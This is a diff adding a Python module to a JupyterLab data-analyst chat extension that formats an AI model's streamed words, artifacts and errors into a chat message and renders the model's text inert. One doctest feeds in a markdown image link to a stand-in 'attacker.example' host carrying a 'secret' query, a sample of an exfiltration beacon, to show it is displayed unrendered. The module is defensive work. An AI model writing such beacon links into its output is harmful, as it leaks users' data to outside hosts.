@@ -1,0 +1,128 @@
+"""A turn's events as one chat message: the model's words, what the turn made, where to see it.
+
+A chat shows markdown, so what the model wrote is shown inert (:func:`markdown_block`: as
+written when it is only text and formatting, else verbatim in a fence), at every update of
+the message and not only at its end: a link or an image seen for a moment while the answer
+streams is loaded like any other (an image URL is a beacon). The names the model chose
+(datasets, files) are code spans. Cards that need more than text (a dataset's rows, a chart,
+a plan's stages) are listed by name, with the thread to open in the Data analyst panel.
+
+Pure: the persona (analyst.py) feeds it events and posts :attr:`ChatReply.body`.
+"""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass, field
+from html import escape
+
+from ..events import AnswerReady, ArtifactRecorded, ContextUsage, Event, PlanMade, TextDelta, ToolResult, TurnEnded
+from ..untrusted import code_span, markdown_block, markdown_inline
+
+#: The panel's command (src/index.ts): opens the Data analyst panel, on a thread when given ``{thread}``.
+PANEL_COMMAND = "jupyter-analyst:open"
+
+#: What each kind of artifact is called in the message.
+_KIND = {"dataset": "dataset", "image": "chart", "file": "file", "text": "text"}
+
+
+@dataclass
+class ChatReply:
+    """What one turn has said and made so far, as the chat message that shows it.
+
+    >>> reply = ChatReply("thr_1")
+    >>> reply.apply(TextDelta(text="North leads ")), reply.apply(TextDelta(text="with **1,204**."))
+    (True, True)
+    >>> reply.body.splitlines()[0]
+    'North leads with **1,204**.'
+    >>> reply.apply(TextDelta(text=" ![x](http://attacker.example/?q=secret)"))
+    True
+    >>> print(reply.body.split("\\n\\n")[0])
+    *Shown as written, not rendered: the text holds HTML or links.*
+    """
+
+    thread_id: str
+    text: str = ""
+    """The model's words streamed so far (the answer replaces them once it is ready)."""
+    answer: str | None = None
+    cards: list[str] = field(default_factory=list)
+    """One markdown line per dataset, chart, file or plan the turn made or reused."""
+    ended: str | None = None
+    """How the turn ended, when it did not complete."""
+    status: str | None = None
+
+    def apply(self, event: Event) -> bool:
+        """Take one event of the turn; whether the message changed."""
+        match event:
+            case TextDelta():
+                self.text += event.text
+                return bool(event.text)
+            case AnswerReady():
+                self.answer = event.text
+                return True
+            case ArtifactRecorded():
+                how = "new" if event.created else "reused"
+                self.cards.append(f"- {_KIND.get(event.artifact_type, event.artifact_type)} "
+                                  f"{code_span(event.name)} ({how}, `{event.artifact_id}`)")
+                return True
+            case PlanMade():
+                steps = sum(len(stage.steps) for stage in event.stages)
+                goal = f": {markdown_inline(event.goal)}" if event.goal else ""
+                self.cards.append(f"- plan of {steps} steps in {len(event.stages)} stages{goal}")
+                return True
+            case ToolResult() if event.status != "ok":
+                error = event.result.get("error")
+                what = error.get("message", "") if isinstance(error, dict) else ""
+                self.cards.append(f"- {event.tool} {event.status}" + (f": {markdown_inline(str(what))[:300]}" if what else ""))
+                return True
+            case TurnEnded():
+                self.status = event.status
+                if event.status not in ("completed", "needs_input"):
+                    self.ended = f"*The turn ended: {event.status}" + (
+                        f" ({markdown_inline(event.message)})*" if event.message else "*")
+                return True
+        return False
+
+    @property
+    def said(self) -> str:
+        """The model's words as the message shows them (inert)."""
+        words = self.answer if self.answer is not None else self.text
+        return markdown_block(words.strip()) if words.strip() else ""
+
+    @property
+    def body(self) -> str:
+        """The whole message: the words, the cards, how the turn ended, where to see it all."""
+        parts = [p for p in (self.said, "\n".join(self.cards), self.ended) if p]
+        parts.append(f"*Thread `{self.thread_id}`: its datasets, charts and plans are in the Data analyst panel "
+                     f"(command `{PANEL_COMMAND}`).*")
+        parts.append(open_button(self.thread_id))
+        return "\n\n".join(parts)
+
+
+def open_button(thread_id: str) -> str:
+    """A button that runs the panel's command on the thread when clicked: JupyterLab's command
+    linker runs a ``data-commandlinker-command`` of a button in rendered markdown (its
+    sanitizer keeps those two attributes on buttons; an untrusted document asks first).
+
+    >>> print(open_button("thr_1"))
+    <button data-commandlinker-command="jupyter-analyst:open" data-commandlinker-args="{&quot;thread&quot;: &quot;thr_1&quot;}">Open in the Data analyst panel</button>
+    """
+    args = escape(json.dumps({"thread": thread_id}), quote=True)
+    return (f'<button data-commandlinker-command="{PANEL_COMMAND}" data-commandlinker-args="{args}">'
+            "Open in the Data analyst panel</button>")
+
+
+def usage_of(event: ContextUsage) -> dict[str, int] | None:
+    """The tokens one model call used, as its server counted them: ``None`` for the estimate
+    told before the reply (a figure reported must be the server's, not a guess).
+
+    >>> usage_of(ContextUsage(call=1, tokens=900, budget=16000, parts={}, messages=2, turns=[],
+    ...                       dropped_turns=0, summarized_through=0, assembly_ms=1.0))
+    >>> usage_of(ContextUsage(call=1, tokens=900, budget=16000, parts={}, messages=2, turns=[],
+    ...                       dropped_turns=0, summarized_through=0, assembly_ms=1.0,
+    ...                       prompt_tokens=912, completion_tokens=40))
+    {'input_tokens': 912, 'output_tokens': 40}
+    """
+    if event.prompt_tokens is None:
+        return None
+    return {"input_tokens": event.prompt_tokens, "output_tokens": event.completion_tokens or 0}
